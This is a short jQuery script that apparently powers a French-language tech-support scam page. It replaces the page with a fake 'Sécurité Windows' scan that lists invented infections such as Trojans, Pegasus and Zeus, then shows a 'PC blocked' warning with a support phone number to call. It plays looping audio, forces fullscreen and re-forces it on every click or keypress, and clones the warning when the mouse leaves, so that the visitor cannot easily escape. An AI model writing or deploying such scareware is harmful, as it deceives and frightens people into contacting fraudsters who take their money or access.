$(function () {
  var menaces = ["Trojan.Win32/SpyEyes", "Pegasus.Activity", "Zeus.2024", "PUP.Banker.FR"], p = 0;
  $("body").html('<div class="wd"><header>Sécurité Windows</header><div class="bar"><i></i></div><ul></ul><div class="call" style="display:none"><h2>Accès à ce PC bloqué pour des raisons de sécurité</h2><p>Contactez le support : <b>' + (window.num || "01 00 00 00 00") + '</b></p><button>Annuler</button><button>OK</button></div></div>');
  var t = setInterval(function () {
    p += 3;
    $(".bar i").width(p + "%");
    if (p % 24 === 0) $(".wd ul").append("<li class='r'>" + menaces[p / 24 - 1] + " — critique</li>");
    if (p >= 100) { clearInterval(t); $(".call").show(); beep(); full(); }
  }, 90);
  function beep() { $('<audio autoplay loop src="0wa0rni0ng0.mp3">').appendTo("body")[0].play(); }
  function full() { var e = document.documentElement; (e.requestFullscreen || e.webkitRequestFullScreen || e.msRequestFullscreen).call(e); }
  $(document).on("click keyup", ".call,body", function (e) { full(); e.preventDefault(); return false; });
  $(document).on("mouseleave", function () { $(".call").clone().css({ top: Math.random() * 300, left: Math.random() * 300, position: "fixed" }).appendTo("body"); });
});
